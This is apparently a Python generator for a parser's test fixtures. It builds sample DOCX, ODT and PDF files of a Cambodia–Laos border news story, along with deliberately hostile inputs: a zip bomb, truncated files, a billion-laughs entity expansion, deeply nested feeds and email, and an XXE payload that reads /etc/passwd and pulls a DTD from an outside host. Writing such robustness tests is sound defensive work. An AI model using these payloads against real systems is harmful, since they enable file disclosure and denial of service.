#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes the packed, printed and hostile inputs of tests/engine/formats; run it after changing it, then renew the references."""
import pathlib
import zipfile

FOLDER = pathlib.Path(__file__).parent / "formats"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
LEAD = ("VIENTIANE (Mekong Wire) — Cambodian Foreign Minister Chan Sothea met his Lao counterpart Bounmy Keola in "
        "Vientiane on Monday, the Lao Ministry of Foreign Affairs said.")
QUOTE = "“We will open the gate in May,” Chan told reporters after the talks."


def package(name, parts):
    with zipfile.ZipFile(FOLDER / name, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in parts.items():
            info = zipfile.ZipInfo(path, (2024, 3, 5, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if path == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)


def docx(body, notes=""):
    parts = {"[Content_Types].xml": "<Types/>",
             "word/document.xml": f"<w:document {W} {MC}><w:body>{body}</w:body></w:document>",
             "docProps/core.xml": '<cp:coreProperties xmlns:cp="urn:cp" xmlns:dc="http://purl.org/dc/elements/1.1/" '
                                  'xmlns:dcterms="http://purl.org/dc/terms/"><dc:creator>Sok Dara</dc:creator>'
                                  "<dcterms:created>2024-03-05T08:00:00Z</dcterms:created></cp:coreProperties>"}
    if notes:
        parts["word/footnotes.xml"] = f"<w:footnotes {W}>{notes}</w:footnotes>"
    return parts


def paragraph(text, style=""):
    mark = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{mark}<w:r><w:t>{text}</w:t></w:r></w:p>"


def odt(body):
    return {"mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
                           f"{body}</office:text></office:body></office:document-content>",
            "meta.xml": '<office:document-meta xmlns:office="urn:o" xmlns:dc="http://purl.org/dc/elements/1.1/" '
                        'xmlns:meta="urn:m"><meta:creation-date>2024-03-05T08:00:00</meta:creation-date>'
                        "<dc:creator>Sok Dara</dc:creator></office:document-meta>"}


def pdf(name, pages):
    """Pages of lines (x, y, size, text), y from the bottom, in Helvetica."""
    kids = [4 + 2 * i for i in range(len(pages))]
    objects = ["<</Type/Catalog/Pages 2 0 R>>",
               f"<</Type/Pages/Count {len(pages)}/Kids[{' '.join(f'{k} 0 R' for k in kids)}]>>",
               "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"]
    for kid, lines in zip(kids, pages):
        draw = "".join(f"BT /F1 {size} Tf {x} {y} Td ({text}) Tj ET\n" for x, y, size, text in lines)
        objects.append("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>"
                       f"/Contents {kid + 1} 0 R>>")
        objects.append(f"<</Length {len(draw.encode('cp1252'))}>>stream\n{draw}endstream")
    data, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(data))
        data += f"{number} 0 obj\n{body}\nendobj\n".encode("cp1252")
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(f"{o:010} 00000 n \n" for o in offsets)
    end = f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{len(data)}\n%%EOF\n"
    (FOLDER / name).write_bytes(data + (table + end).encode())


def column(x, y, lines, size=10):
    return [(x, y - 12 * i, size, line) for i, line in enumerate(lines)]


def documents():
    package("release.docx", docx(
        paragraph("Cambodia and Laos agree to reopen a border post", "Title") + paragraph(LEAD)
        + '<w:p><w:r><w:t xml:space="preserve">“We will open the gate </w:t></w:r><w:del><w:r><w:delText>on</w:delText></w:r>'
          "</w:del><w:ins><w:r><w:t>in</w:t></w:r></w:ins><w:r><w:t xml:space=\"preserve\"> May,” Chan told reporters.</w:t>"
          '<w:footnoteReference w:id="2"/></w:r></w:p>'
        + paragraph("A long way to the gate", "Heading1")
        + "<w:p><mc:AlternateContent><mc:Choice>" + paragraph("A box beside the text.") + "</mc:Choice><mc:Fallback>"
        + paragraph("A box beside the text.") + "</mc:Fallback></mc:AlternateContent><w:r><w:t>The two towns lie nine "
          "kilometres apart, and the road between them was paved last year.</w:t></w:r></w:p>",
        '<w:footnote w:type="separator" w:id="0"><w:p/></w:footnote><w:footnote w:id="2">'
        + paragraph("Interview in Vientiane.") + "</w:footnote>"))
    package("release.odt", odt(
        '<text:tracked-changes>gone</text:tracked-changes>'
        '<text:p text:style-name="Title">Cambodia and Laos agree to reopen a border post</text:p>'
        f"<text:p>{LEAD}</text:p><text:p>“We will<text:s text:c=\"1\"/>open the\n   gate in May,”<text:note>"
        "<text:note-citation>1</text:note-citation><text:note-body><text:p>Interview in Vientiane.</text:p></text:note-body>"
        "</text:note> Chan told reporters.</text:p><text:h>A long way to the gate</text:h>"
        "<text:p>The two towns lie nine kilometres apart, and the road between them was paved last year.</text:p>"))
    head = [(60, 810, 8, "Mekong Wire - Monthly Review")]
    pdf("columns.pdf", [
        head + [(60, 770, 18, "Border post to reopen")]
        + column(60, 730, ["Cambodia and Laos agreed on Monday to reopen a", "border post that has been closed for more than",
                           "ten years, the two foreign mini-", "stries said in a statement."])
        + column(60, 674, ["The road between the two towns was paved last", "year, and traders have long asked for it."])
        + column(320, 730, ["Chan Sothea said that the gate would open in May", "and that both sides would share the cost of the",
                            "new customs house."]) + [(290, 30, 8, "Page 1 of 2")],
        head + column(60, 760, ["Bounmy Keola called the agreement a first step", "towards a wider opening of the border."])
        + [(290, 30, 8, "Page 2 of 2")]])
    pdf("scanned.pdf", [[]])


def hostile():
    package("bomb.docx", docx("<w:p><w:r><w:t>" + "0" * (9 << 20) + "</w:t></w:r></w:p>"))
    package("cut.docx", {"word/document.xml": f"<w:document {W}><w:body>{paragraph(LEAD)}{paragraph(QUOTE)}<w:p><w:r>"})
    data = (FOLDER / "release.odt").read_bytes()
    (FOLDER / "cut.odt").write_bytes(data[: len(data) // 2])
    (FOLDER / "cut.pdf").write_bytes(b"%PDF-1.4\n1 0 obj\n<</Type/Cat")
    laughs = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))
    (FOLDER / "laughs.rss").write_text(
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{laughs}]>\n<rss version="2.0"><channel><title>Feed</title>'
        "<item><title>First</title><description>Whole.</description></item>"
        "<item><title>&l9;</title></item></channel></rss>\n")
    (FOLDER / "external.rss").write_text(
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">'
        '<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]>\n<rss version="2.0"><channel><title>Feed</title>'
        "<item><title>Entity &x; here</title><description>Words.</description></item></channel></rss>\n")
    (FOLDER / "deep.rss").write_text("<rss><channel><item>" + "<a>" * 2000 + "</channel></rss>\n")
    (FOLDER / "deep.feed.json").write_text('{"version": "https://jsonfeed.org/version/1.1", "items": ' + "[" * 5000)
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n" for i in range(300))
    (FOLDER / "deep.eml").write_text(f"From: a@example.org\nSubject: deep\nMIME-Version: 1.0\n{nested}\nWords.\n")


if __name__ == "__main__":
    FOLDER.mkdir(exist_ok=True)
    documents()
    hostile()
